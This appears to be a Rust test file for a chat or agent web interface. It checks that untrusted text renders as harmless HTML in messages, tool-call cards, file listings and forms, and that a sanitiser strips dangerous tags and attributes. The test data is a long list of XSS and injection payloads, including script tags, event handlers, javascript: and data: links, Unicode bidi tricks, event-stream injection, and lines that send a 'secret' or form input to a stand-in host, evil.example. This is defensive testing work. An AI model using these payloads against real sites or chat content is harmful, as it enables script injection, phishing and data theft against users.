//! Words of others that try to be more than words, in every place where some are shown.

use conjure_core::chat::{ArtifactRef, Message, Meta, Part, QuestionAsked, Role};
use conjure_core::log::{CallEnd, Entry, EntryBody, TableChange, TurnOutcome};
use maud::Markup;
use serde_json::json;

use super::address::ConversationAddress;
use super::model::{self, CallCard, CallProgress};
use super::{card, code, markdown, question, render};

/// Elements that the page is made of.
const ELEMENTS: [&str; 45] = [
    "a",
    "article",
    "blockquote",
    "br",
    "button",
    "code",
    "dd",
    "del",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "footer",
    "form",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hr",
    "img",
    "input",
    "label",
    "li",
    "ol",
    "option",
    "p",
    "pre",
    "select",
    "span",
    "strong",
    "summary",
    "table",
    "tbody",
    "td",
    "textarea",
    "th",
    "thead",
    "tr",
    "ul",
];

/// What others may say.
fn cases() -> Vec<String> {
    let mut cases: Vec<String> = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>",
        "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://evil.example/?q=secret\">",
        "<img/src/onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=\"data:text/html;base64,PHNjcmlwdD4=\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>body{background:url(//evil.example)}</style>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<form action=https://evil.example><input name=secret><button>Log in</button></form>",
        "<form action=/logout method=post><button>ok</button></form>",
        "<input autofocus onfocus=alert(1)>",
        "<textarea></textarea><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</pre></code><script>alert(1)</script>",
        "</template><script>alert(1)</script>",
        "<template data-swap=inner data-target=main>gone</template>",
        "</template><template data-swap=\"remove\" data-target=\"composer\"></template>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<body onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"#\" onclick=alert(1)>x</a>",
        "<button popovertarget=menu formaction=/logout>x</button>",
        "<div data-fetch=/logout data-stream=//evil.example>x</div>",
        "<div style=\"position:fixed;inset:0\">cover</div>",
        "<div id=main class=entry>fake</div>",
        "<article class=\"entry person\" id=\"e1\">You said yes</article>",
        "<div class=\"entry call-entry\"><details class=call open><summary>Done</summary></details></div>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<!--><script>alert(1)</script>-->",
        "<!-- --!><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<!DOCTYPE html><script>alert(1)</script>",
        "<x onclick=alert(1) style=x:expression(alert(1))>x</x>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](  javascript:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](file:///etc/passwd)",
        "[x](blob:https://evil.example/1)",
        "[x](//evil.example)",
        "[x](/logout)",
        "[x](#main)",
        "[x](https://evil.example \"onmouseover=alert(1)\")",
        "[x](https://evil.example/\"onmouseover=\"alert(1))",
        "[x](<https://evil.example/\" onclick=\"alert(1)>)",
        "[https://good.example](https://evil.example)",
        "[good.example](https://good.example@evil.example)",
        "[good](https://g\u{43e}\u{43e}d.example)",
        "[\u{202e}elpmaxe.doog](https://evil.example)",
        "![x](https://evil.example/pixel.png)",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "![x](javascript:alert(1))",
        "![x\"onerror=\"alert(1)](x)",
        "[![x](https://evil.example/a)](javascript:alert(1))",
        "<javascript:alert(1)>",
        "<https://evil.example/\"onclick=alert(1)>",
        "[x]: javascript:alert(1)\n\n[x]",
        "[x][y]\n\n[y]: data:text/html,x",
        "```html\n<script>alert(1)</script>\n```",
        "```\"><script>alert(1)</script>\nx\n```",
        "```<script>\n</code></pre><script>alert(1)</script>\n```",
        "~~~rust onclick=alert(1)\nfn a() {}\n~~~",
        "`</code><script>alert(1)</script>`",
        "$</code><script>alert(1)</script>$",
        "$$\\href{javascript:alert(1)}{x}$$",
        "| <script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
        "| a |\n|:---:\" onclick=alert(1)|\n| b |",
        "# <script>alert(1)</script> {#main onclick=alert(1)}",
        "- [x] <script>alert(1)</script>",
        "> <script>alert(1)</script>",
        "1. <iframe src=//evil.example>",
        "a\u{0}b<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
        "\u{1b}[2J\u{1b}]0;title\u{7}",
        "\u{202e}txt.exe\u{2066}evil\u{2069}",
        "in\u{200b}visi\u{2060}ble\u{feff}",
        "\u{e0041}\u{e0042}tags",
        "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "&#x202e;reversed&#8203;&#x2066;",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "` onmouseover=alert(1) `",
        "\" autofocus onfocus=\"alert(1)",
        "' autofocus onfocus='alert(1)",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "../../../etc/passwd\" onerror=\"alert(1).png",
        "data: gone\n\nevent: gone\ndata: x\n\n",
        "id: 999\r\ndata: <script>alert(1)</script>\r\n\r\n",
    ]
    .into_iter()
    .map(str::to_owned)
    .collect();
    cases.push("x".repeat(300_000));
    cases.push("<b>".repeat(20_000));
    cases.push("> ".repeat(5_000) + "<script>alert(1)</script>");
    cases.push("[".repeat(5_000) + "](javascript:alert(1))");
    cases.push("a\u{300}".repeat(5_000));
    cases
}

fn address() -> ConversationAddress {
    ConversationAddress {
        session: "s".to_owned(),
        name: "s".to_owned(),
        thread: None,
        shared: None,
    }
}

fn entry(seq: u64, body: EntryBody) -> Entry {
    Entry {
        seq,
        turn: 1,
        at_ms: 0,
        body,
    }
}

/// Everything that shows words of others, with these words.
fn everywhere(words: &str) -> Vec<(&'static str, String)> {
    let owned = || words.to_owned();
    let file = ArtifactRef {
        id: owned(),
        name: owned(),
        media_type: owned(),
        size: Some(1),
    };
    let image = ArtifactRef {
        media_type: "image/png".to_owned(),
        ..file.clone()
    };
    let mut call = CallCard::new(words, words, json!({ words: words, "command": words }));
    call.backend = Some(owned());
    call.plugin = Some(owned());
    call.output = owned();
    call.files = vec![file.clone(), image];
    call.state = CallProgress::Over(CallEnd::Failed);
    let mut asks = call.clone();
    asks.state = CallProgress::Asks { reason: owned() };
    let mut runs = call.clone();
    runs.state = CallProgress::Runs;
    runs.live = owned();
    runs.arguments_text = Some(owned());
    let message = |role| {
        let mut message = Message::new(role, vec![Part::text(words)]);
        message.meta = Some(Meta {
            model: words.to_owned(),
            ..Meta::default()
        });
        EntryBody::Message { message }
    };
    let end = |outcome| EntryBody::TurnEnded {
        turn_id: owned(),
        outcome,
        usage: Default::default(),
        stop_reason: Some(owned()),
    };
    let entries = [
        message(Role::User),
        message(Role::System),
        message(Role::Assistant),
        EntryBody::notice(words),
        EntryBody::TableChanged(TableChange {
            added: vec![owned(); 12],
            removed: vec![owned()],
            changed: vec![owned()],
            ..TableChange::default()
        }),
        EntryBody::SettingsChanged {
            summary: owned(),
            settings: json!({}),
        },
        EntryBody::Compacted {
            upto: 1,
            summary: owned(),
            meta: None,
        },
        EntryBody::File {
            artifact: file,
            source: owned(),
            call_id: None,
            place: None,
            remote: None,
            holder: None,
        },
        end(TurnOutcome::Failed {
            error: owned(),
            kind: owned(),
        }),
        end(TurnOutcome::Limit {
            limit: owned(),
            value: 1,
        }),
        end(TurnOutcome::CutShort),
    ];
    let entries = (1..).zip(entries).map(|(seq, body)| entry(seq, body));
    let entries: Vec<Entry> = entries.collect();
    let asked = QuestionAsked {
        id: owned(),
        plugin: owned(),
        call_id: None,
        message: owned(),
        schema: Some(json!({ "properties": {
            words: { "title": words, "description": words, "default": words },
            "choice": { "enum": [words], "default": words },
        } })),
        url: Some(owned()),
    };
    let address = address();
    let shown: [(&str, Markup); 9] = [
        ("markdown", markdown::render(words)),
        ("code", code::block(words, words)),
        ("entries", render::items(&address, &model::items(&entries))),
        ("card", card::call(&address, &call)),
        ("card that asks", card::call(&address, &asks)),
        ("card that runs", card::call(&address, &runs)),
        ("thoughts", render::reasoning("r1", words, true)),
        ("question", question::form(&address, &asked)),
        ("error", render::error(words, words)),
    ];
    shown
        .into_iter()
        .map(|(where_, shown)| (where_, shown.into_string()))
        .collect()
}

/// What is wrong with some HTML.
fn wrong(html: &str) -> Option<String> {
    let mut rest = html;
    loop {
        let (text, behind) = rest.split_once('<').unwrap_or((rest, ""));
        if let Some(c) = text.chars().find(|c| is_hidden(*c)) {
            return Some(format!("a hidden {c:?}"));
        }
        if behind.is_empty() {
            return None;
        }
        let Some(tag) = tag_of(behind) else {
            let start: String = behind.chars().take(40).collect();
            return Some(format!("`<{start}` is no tag"));
        };
        rest = behind.get(tag.len() + 1..).unwrap_or_default();
        let name = tag.trim_start_matches('/');
        let name = name.split([' ', '\n']).next().unwrap();
        if !ELEMENTS.contains(&name) {
            return Some(format!("an element `{name}`"));
        }
        for (attribute, value) in attributes(tag.get(name.len()..).unwrap_or_default()) {
            if let Some(wrong) = wrong_attribute(name, attribute, value) {
                return Some(wrong);
            }
        }
    }
}

/// What is wrong with an attribute of an element.
fn wrong_attribute(name: &str, attribute: &str, value: &str) -> Option<String> {
    let attribute = attribute.to_ascii_lowercase();
    let acts = ["style", "srcdoc", "formaction"].contains(&attribute.as_str());
    if attribute.starts_with("on") || acts {
        return Some(format!("an attribute `{attribute}` of `{name}`"));
    }
    // What is sent as it is: nobody sees it.
    let is_sent = ["name", "value"].contains(&attribute.as_str());
    if !is_sent && let Some(c) = value.chars().find(|c| is_hidden(*c)) {
        return Some(format!("a hidden {c:?} in `{attribute}` of `{name}`"));
    }
    if ["href", "src", "action"].contains(&attribute.as_str()) {
        let begins = |with: &[&str]| with.iter().any(|start| value.starts_with(start));
        let is_own = begins(&["/sessions/", "/api/", "#e"]);
        let is_web = name == "a" && begins(&["https://", "http://", "mailto:"]);
        if !is_own && !is_web {
            return Some(format!("`{attribute}` of `{name}` leads to {value}"));
        }
    }
    None
}

/// Whether nobody sees a character, or it turns others.
fn is_hidden(c: char) -> bool {
    matches!(
        c,
        '\u{0}'..='\u{8}'
            | '\u{1b}'
            | '\u{200b}'
            | '\u{202a}'..='\u{202e}'
            | '\u{2060}'..='\u{2069}'
            | '\u{feff}'
            | '\u{e0000}'..='\u{e007f}'
    )
}

/// The tag that a text begins with, up to its end; quotation marks may hold a `>`.
fn tag_of(rest: &str) -> Option<&str> {
    let is_tag = rest.starts_with(|c: char| c.is_ascii_alphabetic() || c == '/');
    let mut quoted = false;
    let end = rest.find(|c| {
        quoted ^= c == '"';
        c == '>' && !quoted
    });
    rest.get(..end?).filter(|_| is_tag)
}

/// Attributes with their values, as this page and the sanitiser write them.
fn attributes(mut rest: &str) -> Vec<(&str, &str)> {
    let mut found = Vec::new();
    loop {
        rest = rest.trim_start();
        let end = rest.find(['=', ' ']).unwrap_or(rest.len());
        let (name, behind) = rest.split_at(end);
        if name.is_empty() {
            return found;
        }
        let Some(value) = behind.strip_prefix("=\"") else {
            found.push((name, ""));
            rest = behind;
            continue;
        };
        let (value, behind) = value.split_once('"').unwrap_or((value, ""));
        found.push((name, value));
        rest = behind;
    }
}

#[test]
fn words_of_others_are_shown_as_words_everywhere() {
    let cases = cases();
    assert!(cases.len() >= 100, "{}", cases.len());
    for words in cases {
        for (where_, html) in everywhere(&words) {
            let short: String = words.chars().take(80).collect();
            let found = wrong(&html);
            assert_eq!(found, None, "{where_} of `{short}`");
        }
    }
}

#[test]
fn the_look_for_what_is_wrong_finds_it() {
    for bad in [
        "<script>x</script>",
        "<p onclick=\"x\">",
        "<a href=\"javascript:x\">",
        "<img src=\"https://evil.example\">",
        "a < b",
        "<p style=\"x\">",
        "\u{202e}",
    ] {
        assert!(wrong(bad).is_some(), "{bad}");
    }
    assert_eq!(
        wrong("<p class=\"a > b\">x</p><a href=\"https://a.example\">y</a>"),
        None
    );
}

#[test]
fn the_sanitiser_takes_out_what_a_renderer_would_let_through() {
    // The words as if they were HTML that the renderer made.
    for words in cases() {
        let html = markdown::sanitise(&words);
        for element in html.split('<').skip(1) {
            let Some(tag) = tag_of(element) else { continue };
            let name = tag.trim_start_matches('/').split(' ').next().unwrap();
            assert!(ELEMENTS.contains(&name), "{html}");
            for (attribute, value) in attributes(tag.get(name.len()..).unwrap_or_default()) {
                assert!(
                    !attribute.starts_with("on") && attribute != "style",
                    "{html}"
                );
                assert!(
                    !["id", "data-swap", "data-fetch"].contains(&attribute),
                    "{html}"
                );
                if attribute == "href" {
                    assert!(
                        value.starts_with("http") || value.starts_with("mailto:"),
                        "{html}"
                    );
                }
            }
        }
    }
}
